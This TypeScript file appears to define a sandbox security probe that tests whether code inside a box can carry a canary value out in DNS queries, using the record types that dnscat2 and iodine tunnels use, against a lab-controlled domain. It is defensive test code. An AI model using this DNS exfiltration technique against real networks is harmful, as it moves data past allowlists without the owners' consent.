import { questionBytes, TYPES } from '../../../lab/dns.ts'
import { EXFILTRATION } from '../../../lab/topology.ts'
import type { Probe } from '../../types.ts'
import { grantedInternet } from './granted.ts'
import { ON_LAN } from './on-lan.ts'
import { at, byUdp, knownInside, plantReach, together, WAIT_MS } from './reach.ts'

/** Types that tunnels ask for, as dnscat2 and iodine do; NULL is 10 (RFC 1035). */
const ASKED = [TYPES.TXT, TYPES.MX, TYPES.HTTPS, 10]

export const dnsExfiltration: Probe = {
  ...ON_LAN,
  holes: ['net', 'files'], // resolv.conf(5) is a file
  id: 'network-dns-exfiltration',
  number: 85,
  title: 'carry data out in questions for names',
  tries: `Asks the resolver inside for a name with a nonce below ${EXFILTRATION}, which no allowlist names, for addresses and for the types that \
tunnels use; its authority on the test LAN must hear the nonce. Boxes of ours have --network allow: with another site.`,
  attacker: 'user in the box',
  severity: 'exfiltration',
  standsFor: ['ATT&CK T1048.003', 'ATT&CK T1071.004', 'CVE-2025-55284'],
  closing: 'Answer only names that the rules name, and ask nobody for others.',
  price: 'Each name that an application needs has to be on the list.',
  granted: grantedInternet,
  plant: (scene, canary) =>
    plantReach(scene, canary, {
      setting: 'allowlist',
      counts: ({ protocol }) => protocol === 'dns',
      tryIt: async (inside, text) => {
        const name = `${text}.${EXFILTRATION}`
        const { nameserver } = await knownInside(inside)
        return together(
          inside.ask('net-resolve', [String(WAIT_MS), name]),
          ...ASKED.map((type) =>
            byUdp(inside, questionBytes(type, name, type, undefined), at(nameserver, 53)),
          ),
        )
      },
    }),
}
